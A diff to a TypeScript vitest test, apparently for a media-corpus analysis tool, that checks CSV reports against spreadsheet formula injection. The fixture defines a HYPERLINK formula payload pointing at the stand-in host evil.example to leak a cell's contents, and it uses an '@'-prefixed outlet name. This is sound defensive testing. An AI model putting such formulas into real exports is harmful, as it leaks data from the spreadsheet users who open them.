@@ -1,7 +1,7 @@
 import { readFile, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { tempRepo } from '../../../test/helpers.js';
+import { tempRepo } from '@framelens/tools';
 import { main } from './main.js';
 
 const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
@@ -10,7 +10,7 @@ describe('CSV files of a corpus whose titles, sentences and outlet names look li
   let repo: string;
   const report = (name: string) => readFile(path.join(repo, 'reports', 'kazakhstan-2022', name), 'utf8');
   beforeAll(async () => {
-    repo = await tempRepo();
+    repo = await tempRepo({ pipeline: true });
     const nd = path.join(repo, 'corpus', 'kazakhstan-2022', 'nd');
     await writeFile(path.join(nd, 'outlet.yaml'), (await readFile(path.join(nd, 'outlet.yaml'), 'utf8')).replace(/^name: nd$/m, 'name: "@nd"'));
     await writeFile(path.join(nd, '2022-01-07-evil.md'), `---\ntitle: '${EVIL}'\ndate: "2022-01-07"\n---\n-Die Regierung sprach von „Terrorbanden“ und Terroristen.\n`);
